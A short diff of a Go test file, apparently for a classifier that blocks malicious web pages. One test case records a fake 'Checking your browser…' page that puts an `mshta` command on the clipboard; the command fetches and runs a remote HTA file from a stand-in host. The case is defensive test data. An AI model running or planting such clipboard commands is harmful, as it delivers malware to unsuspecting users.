@@ -85,7 +85,7 @@ func TestIssue12Cases(t *testing.T) {
 <p>偽の警告画面はブラウザを閉じれば消える。閉じられない場合はパソコンを再起動するよう勧めている。</p></article>
 <footer>関連記事 ランキング 会社概要 プライバシーポリシー</footer></body></html>`,
 			want: allowed},
-		{name: "a hidden command put on the clipboard without a click is decisive", url: "https://cdn-check.example.top/",
+		{name: "a hidden command on the clipboard is decisive", url: "https://cdn-check.example.top/",
 			html:   `<html><body><p>Checking your browser…</p></body></html>`,
 			events: []snapshot.Event{{Type: "clipboard-write", Count: 1, Detail: `mshta https://x.example.top/a.hta`}},
 			want:   blocked},
